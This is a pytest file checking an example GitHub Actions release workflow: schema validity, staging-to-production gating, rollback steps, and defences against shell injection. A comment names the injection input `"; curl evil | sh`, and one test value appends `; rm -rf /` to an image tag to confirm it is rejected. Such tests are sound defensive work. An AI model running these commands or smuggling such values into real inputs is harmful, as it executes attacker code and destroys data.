"""The example release workflow is valid, gated, and safe with its input."""

from __future__ import annotations

import os
import subprocess
import sys
from typing import Any

import pytest
import yaml

from tests.paths import SNIPPETS, WORKFLOWS

RELEASE = SNIPPETS / "skills" / "release.yml"
SCHEMA = ["--builtin-schema", "vendor.github-workflows"]
SHA = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture(scope="module")
def workflow() -> dict[Any, Any]:
    return yaml.safe_load(RELEASE.read_text(encoding="utf-8"))


def step(job: dict[str, Any], name_starts: str) -> dict[str, Any]:
    (found,) = [s for s in job["steps"] if s["name"].startswith(name_starts)]
    return found


def test_matches_the_github_workflow_schema() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "check_jsonschema", *SCHEMA, str(RELEASE)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_production_waits_for_staging_in_its_own_environment(
    workflow: dict[Any, Any],
) -> None:
    jobs = workflow["jobs"]
    assert list(jobs) == ["staging", "production"]
    assert "needs" not in jobs["staging"]
    assert jobs["production"]["needs"] == "staging"
    names = [job["environment"]["name"] for job in jobs.values()]
    assert names == ["staging", "production"]
    assert all(
        job["environment"]["url"].startswith("https://") for job in jobs.values()
    )


def test_runs_on_demand_one_at_a_time_never_cancelled(workflow: dict[Any, Any]) -> None:
    on = workflow.get("on", workflow.get(True))  # YAML 1.1 reads `on` as True
    assert set(on) == {"workflow_dispatch"}
    assert on["workflow_dispatch"]["inputs"]["image"]["required"] is True
    assert workflow["concurrency"]["cancel-in-progress"] is False
    assert workflow["permissions"] == {"contents": "read"}


def test_no_script_pastes_an_expression(workflow: dict[Any, Any]) -> None:
    # ${{ }} in a script is replaced before the shell runs: an input holding
    # `"; curl evil | sh` would run. Values travel in environment variables.
    for job in workflow["jobs"].values():
        assert job["env"]["IMAGE"] == "${{ inputs.image }}"
        for each in job["steps"]:
            assert "${{" not in each["run"], each["name"]


def test_each_job_checks_the_image_first_and_rolls_back_last(
    workflow: dict[Any, Any],
) -> None:
    for job in workflow["jobs"].values():
        first, *_, last = job["steps"]
        assert first["name"].startswith("Check the image")
        assert last["if"] == "failure() && steps.rollout.conclusion != 'skipped'"
        assert last["run"] == "kubectl rollout undo deployment/churn-service"
        assert step(job, "Roll out")["id"] == "rollout"


@pytest.mark.parametrize(
    ("image", "accepted"),
    [
        (f"ghcr.io/ds-to-mle/churn-service:sha-{SHA}", True),
        ("ghcr.io/ds-to-mle/churn-service:latest", False),
        (f"ghcr.io/ds-to-mle/churn-service:sha-{SHA[:7]}", False),
        (f"docker.io/someone/churn-service:sha-{SHA}", False),
        (f"ghcr.io/ds-to-mle/churn-service:sha-{SHA}; rm -rf /", False),
    ],
)
def test_the_image_check_accepts_only_pipeline_tags(
    workflow: dict[Any, Any], image: str, accepted: bool
) -> None:
    script = step(workflow["jobs"]["production"], "Check the image")["run"]
    result = subprocess.run(
        ["bash", "-c", script],
        env=os.environ | {"IMAGE": image},
        capture_output=True,
        text=True,
        check=False,
    )
    assert (result.returncode == 0) is accepted, result.stdout
    if not accepted:
        assert "::error::not an image built by ml-pipeline" in result.stdout


def test_the_image_check_matches_the_tags_ml_pipeline_pushes() -> None:
    pipeline = yaml.safe_load((WORKFLOWS / "ml-pipeline.yml").read_text())
    meta = next(s for s in pipeline["jobs"]["image"]["steps"] if s.get("id") == "meta")
    assert meta["with"]["images"].endswith("/churn-service")
    assert meta["with"]["tags"] == "type=sha,format=long"  # sha- and 40 hex digits
